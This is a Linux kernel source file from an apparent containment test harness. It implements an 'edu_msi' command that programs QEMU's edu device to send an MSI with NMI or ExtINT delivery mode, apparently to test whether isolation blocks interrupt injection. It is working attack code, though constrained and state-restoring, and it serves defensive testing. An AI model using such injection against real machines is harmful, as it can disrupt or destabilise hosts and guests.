// SPDX-License-Identifier: GPL-2.0
/*
 * MSI injection (docs/containment.md, the MSI rows; docs/threats.md #11): the host
 * programs a device's MSI capability with a delivery mode no driver would ask for (NMI,
 * INIT, ...) and makes the device send it. The device is QEMU's edu (hw/misc/edu.c):
 * it has a 64-bit MSI capability with one vector and no per-vector mask, and a write of
 * a nonzero value to BAR0 0x60 ("raise interrupt") sends the programmed message at
 * once, through the device's bus-master address space, i.e. through the IOMMU, with the
 * device's requester id. No Linux driver owns edu, so nothing else uses its MSI.
 * The MSI address (Intel SDM vol. 3 §11.11.1, AMD APM vol. 2 §16.7): 0xFEE, destination
 * APIC id 19:12, RH 3 = 0, DM 2 = 0 (physical). Data: vector 7:0, delivery mode 10:8
 * (000 fixed, 001 lowest priority, 010 SMI, 100 NMI, 101 INIT, 111 ExtINT), level
 * 14 = 1 (assert), trigger 15 = 0 (edge).
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/pci.h>
#include "attack.h"

#define EDU_VENDOR 0x1234
#define EDU_DEVICE 0x11e8
#define EDU_IRQ_RAISE 0x60
#define EDU_IRQ_ACK 0x64
#define MSI_MODE_NMI 4
#define MSI_MODE_EXTINT 7
#define MSI_DATA_ASSERT (1u << 14)

/*
 * edu_msi DEST MODE VECTOR: program edu's MSI with address 0xFEE00000 | DEST << 12 and
 * data VECTOR | MODE << 8 | assert, enable it, raise the interrupt once, wait 50 ms,
 * acknowledge it, and put the capability back as it was. Reports what was sent; what
 * arrived is for the caller to read (/proc/interrupts, the kernel log). Accepted:
 *  - NMI (4): Linux counts it and, no handler claiming it, logs "NMI received for
 *    unknown reason";
 *  - ExtINT (7) with a vector 0x20-0xef: hardware would fetch the vector from an 8259;
 *    QEMU 7.2's APIC delivers the message's own vector as a fixed interrupt
 *    (apic_bus_deliver: "handled in I/O APIC code"), so a vector with no handler on
 *    the CPU makes Linux log "No irq handler for vector" and acknowledge it.
 * Not accepted: INIT resets the CPU it reaches on the bare kernel, SMI enters firmware,
 * a fixed vector below 32 runs an exception handler: none of them can be sent and
 * survived on the bare kernel, which each row must prove first.
 */
static int cmd_edu_msi(int argc, const u64 *a)
{
	struct pci_dev *dev;
	void __iomem *bar;
	u32 lo, hi, data;
	u16 flags;
	int pos;

	if (a[0] > 0xff || (a[1] != MSI_MODE_NMI &&
			    (a[1] != MSI_MODE_EXTINT || a[2] < 0x20 || a[2] > 0xef)))
		return -EINVAL;
	dev = pci_get_device(EDU_VENDOR, EDU_DEVICE, NULL);
	if (!dev) {
		out("result=unsupported reason=no_edu_device\n");
		return 0;
	}
	pos = pci_find_capability(dev, PCI_CAP_ID_MSI);
	if (!pos || pci_enable_device(dev) || !(bar = pci_iomap(dev, 0, 0x100))) {
		out("result=error reason=edu_msi_setup\n");
		pci_dev_put(dev);
		return 0;
	}
	pci_set_master(dev); /* the message is a memory write: bus mastering on */
	pci_read_config_word(dev, pos + PCI_MSI_FLAGS, &flags);
	pci_read_config_dword(dev, pos + PCI_MSI_ADDRESS_LO, &lo);
	pci_read_config_dword(dev, pos + PCI_MSI_ADDRESS_HI, &hi);
	pci_read_config_dword(dev, pos + PCI_MSI_DATA_64, &data);
	pci_write_config_dword(dev, pos + PCI_MSI_ADDRESS_LO, 0xfee00000u | (u32)a[0] << 12);
	pci_write_config_dword(dev, pos + PCI_MSI_ADDRESS_HI, 0);
	pci_write_config_dword(dev, pos + PCI_MSI_DATA_64, (u32)a[2] | (u32)a[1] << 8 | MSI_DATA_ASSERT);
	pci_write_config_word(dev, pos + PCI_MSI_FLAGS, flags | PCI_MSI_FLAGS_ENABLE);
	writel(1, bar + EDU_IRQ_RAISE);
	msleep(50);
	writel(1, bar + EDU_IRQ_ACK);
	pci_write_config_word(dev, pos + PCI_MSI_FLAGS, flags);
	pci_write_config_dword(dev, pos + PCI_MSI_ADDRESS_LO, lo);
	pci_write_config_dword(dev, pos + PCI_MSI_ADDRESS_HI, hi);
	pci_write_config_dword(dev, pos + PCI_MSI_DATA_64, data);
	pci_iounmap(dev, bar);
	pci_dev_put(dev);
	out("result=sent address=0x%x data=0x%x\n", 0xfee00000u | (u32)a[0] << 12,
	    (u32)a[2] | (u32)a[1] << 8 | MSI_DATA_ASSERT);
	return 0;
}

const struct atk_cmd msi_cmds[] = {
	{ "edu_msi", 3, cmd_edu_msi, "DEST MODE VECTOR  edu sends one MSI (MODE 4 NMI, 7 ExtINT) to APIC id DEST" },
	{ }
};
